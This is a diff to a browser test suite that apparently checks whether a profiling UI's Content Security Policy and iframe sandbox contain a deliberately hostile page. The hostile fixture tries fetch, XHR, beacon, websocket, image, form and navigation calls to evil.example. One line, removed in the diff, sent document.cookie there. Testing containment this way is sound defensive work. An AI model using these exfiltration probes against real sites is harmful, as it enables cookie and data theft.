@@ -37,7 +37,8 @@ const VENDOR = ['bootstrap-3.3.7.min.css', 'd3-flamegraph-2.0.6.css', 'd3-4.13.0
 
 // The hostile page: every way out it can think of, each outcome recorded
 // (with the CSP violations it saw) in #probe and posted to the parent; on
-// the parent's "navigate" it tries to take its own frame to another site.
+// the parent's word it submits a form (to the API, to another site) or
+// tries to take its own frame to another site.
 const HOSTILE = `<!DOCTYPE html>
 <html><head><meta charset="utf-8"><title>hostile</title>
 <link rel="stylesheet" href="${EVIL}/style.css">
@@ -81,7 +82,7 @@ const HOSTILE = `<!DOCTYPE html>
 	function t(name, fn) {
 		try { r[name] = 'LEAK:' + String(fn()).slice(0, 100); } catch (e) { r[name] = 'blocked:' + e.name; }
 	}
-	await f('fetch_other', '${EVIL}/fetch?d=' + encodeURIComponent(document.cookie), { mode: 'no-cors' });
+	await f('fetch_other', '${EVIL}/fetch?d=' + encodeURIComponent(location.href), { mode: 'no-cors' });
 	await f('fetch_api', '/api/services', { credentials: 'include' });
 	await f('fetch_api_post', '/api/metrics/profile_request', { method: 'POST', credentials: 'include',
 		headers: { 'Content-Type': 'text/plain' }, body: '{"service_name":"hostile-fetch"}' });
@@ -99,15 +100,19 @@ const HOSTILE = `<!DOCTYPE html>
 		document.body.appendChild(fr);
 		return 'added';
 	});
-	t('form_other', function () { document.getElementById('out').submit(); return 'submitted'; });
-	t('form_api', function () { document.getElementById('api').submit(); return 'submitted'; });
 	t('top_navigation', function () { top.location.href = '${EVIL}/top'; return 'navigated'; });
 	await new Promise(function (ok) { setTimeout(ok, 700); });
 	r.done = true;
+	window.__r = r;
 	document.getElementById('probe').textContent = JSON.stringify(r);
 	parent.postMessage({ probe: r }, '*');
+	// Last, as they may replace this page: on the parent's word.
 	window.addEventListener('message', function (e) {
-		if (e.data === 'navigate')
+		if (e.data === 'form-api')
+			document.getElementById('api').submit();
+		else if (e.data === 'form-out')
+			document.getElementById('out').submit();
+		else if (e.data === 'navigate')
 			location.href = '${EVIL}/self';
 	});
 })();
@@ -276,6 +281,102 @@ const TESTS = [
 		// is used.  The frame's first load may be replaced by its second.
 		assert.deepEqual(net.failed.filter((f) => !/\/vendor\/fonts\/glyphicons-halflings-regular\.\w+ csp$/.test(f) &&
 			!/\/adhoc_flamegraph_content\?.* net::ERR_ABORTED$/.test(f)), []);
+	}],
+	['hostile: fetch, XHR, images, beacons, sockets, frames, popups and top navigation all blocked', async () => {
+		const p = S.p;
+		const left = net.left.length;
+		const requests = Number(psql('select count(*) from ProfilingRequests'));
+		// The frames' requests that got an answer, and the ones that were
+		// refused before they were sent (DevTools still reports those).
+		S.frameReqs = [];
+		S.frameRefused = [];
+		ctx.on('requestfinished', (r) => {
+			if (r.frame() !== p.mainFrame())
+				S.frameReqs.push(`${r.method()} ${r.url()}`);
+		});
+		ctx.on('requestfailed', (r) => {
+			if (r.frame() !== p.mainFrame())
+				S.frameRefused.push(`${r.failure()?.errorText} ${r.url()}`);
+		});
+		// The UI page's own view of it: messages and its policy's reports.
+		await p.addInitScript(() => {
+			if (window !== top)
+				return;
+			window.__msgs = [];
+			window.__viol = [];
+			addEventListener('message', (e) => window.__msgs.push(e.data));
+			document.addEventListener('securitypolicyviolation',
+				(e) => window.__viol.push(`${e.effectiveDirective} ${e.blockedURI}`));
+		});
+		await p.goto(`${BASE}/adhoc.html?service=${SVC}&file=${encodeURIComponent(S.hostileFile)}`);
+		const { el, fr } = await frameOf(p, '#probe');
+		S.hostile = el;
+		await fr.waitForFunction(() => document.getElementById('probe').textContent !== 'pending');
+		const r = JSON.parse(await fr.textContent('#probe'));
+		fs.writeFileSync(path.join(ART, 'library-hostile-probe.json'), JSON.stringify(r, null, 2));
+		console.log(`# probe: ${JSON.stringify(r)}`);
+		// What the script itself can tell (beacons, sockets, frames and
+		// forms do not say: their violations below do).
+		for (const k of ['fetch_other', 'fetch_api', 'fetch_api_post', 'xhr_other', 'xhr_api', 'img_other',
+			'img_api', 'popup', 'top_navigation'])
+			assert.match(r[k] || 'missing', /^blocked:/, `${k}: ${r[k]}`);
+		// The page's own policy reported each request it refused.
+		const want = ['connect-src http://evil.example/fetch', 'connect-src http://evil.example/xhr',
+			'connect-src http://evil.example/beacon', 'connect-src ws://evil.example/ws',
+			`connect-src ${BASE}/api/services`, `connect-src ${BASE}/api/audit`,
+			`connect-src ${BASE}/api/metrics/profile_request`, 'img-src http://evil.example/pixel.png',
+			'img-src http://evil.example/bg.png', `img-src ${BASE}/api/services`, 'frame-src http://evil.example',
+			'style-src-elem http://evil.example/style.css', 'default-src http://evil.example/prefetch'];
+		for (const d of want)
+			assert.ok(r.violations.some((v) => v.startsWith(d)), `violation ${d} in ${r.violations}`);
+		await waitFor(() => p.evaluate(() => window.__msgs.length), 'the probe\'s message');
+		assert.equal(new URL(p.url()).pathname, '/adhoc.html', 'the UI page stays');
+		assert.equal(ctx.pages().length, 1, 'no popup');
+		assert.deepEqual(net.left.slice(left), [], 'nothing reached the network off loopback');
+		assert.deepEqual(S.frameReqs.filter((u) => !u.startsWith(`GET ${BASE}/api/metrics/adhoc_flamegraph_content?`)),
+			[], 'the frame asked for nothing but its own page');
+		assert.equal(Number(psql('select count(*) from ProfilingRequests')), requests, 'no profile request made');
+		assert.ok(S.frameRefused.length >= 5 && S.frameRefused.every((x) => x.startsWith('csp ')),
+			`refused before sending: ${S.frameRefused}`);
+		S.violations = r.violations.length;
+		S.left = left;
+	}],
+	['hostile: a form to the API is refused (form-action), to another site and a navigation by the UI\'s frame-src', async () => {
+		const p = S.p;
+		const post = (m) => p.evaluate((w) => document.querySelector('#frame-box iframe').contentWindow.postMessage(w, '*'), m);
+		const parentViol = () => p.evaluate(() => window.__viol.filter((v) => v.startsWith('frame-src http://evil.example')).length);
+		const csp = await p.evaluate(() => fetch(location.href).then((r) => r.headers.get('content-security-policy')));
+		assert.match(csp, /frame-src 'self'/);
+		const requests = Number(psql('select count(*) from ProfilingRequests'));
+		const docs = S.frameReqs.length;
+		// A text/plain form POST to the API, same origin: the page's own
+		// form-action 'none' stops it.
+		await post('form-api');
+		await waitFor(() => S.hostile.contentFrame().then((f) => f.evaluate((b) => window.__r.violations
+			.includes(`form-action ${b}/api/metrics/profile_request`), BASE)), 'the form-action report');
+		// A form to another site: the UI page's frame-src 'self' refuses the
+		// frame's navigation (the frame is left with an error page).
+		let n = await parentViol();
+		await post('form-out');
+		await waitFor(async () => (await parentViol()) > n, 'the page\'s frame-src report (form)');
+		// The frame navigating itself: the same.
+		await p.reload();
+		await (await frameOf(p, '#probe')).fr.waitForFunction(() => window.__r && window.__r.done);
+		n = await parentViol();
+		await post('navigate');
+		await waitFor(async () => (await parentViol()) > n, 'the page\'s frame-src report (navigation)');
+		await sleep(300);
+		for (const f of p.frames())
+			assert.doesNotMatch(f.url(), /evil\.example/);
+		assert.deepEqual(net.left.slice(S.left), [], 'nothing reached the network off loopback');
+		assert.deepEqual(S.frameReqs.slice(docs).filter((u) => !u.startsWith(`GET ${BASE}/api/metrics/adhoc_flamegraph_content?`)),
+			[], 'the frames asked for nothing but their own page');
+		assert.equal(Number(psql('select count(*) from ProfilingRequests')), requests, 'no profile request made');
+		assert.equal(new URL(p.url()).pathname, '/adhoc.html', 'the UI page stays');
+		assert.equal(ctx.pages().length, 1, 'no popup');
+		console.log(`# blocked: ${S.violations} requests refused by the page's own policy, popups and top ` +
+			'navigation by the sandbox, a form by form-action, a form and a navigation to another site by ' +
+			`the UI's frame-src; ${net.left.length} requests left loopback`);
 	}],
 ];
 
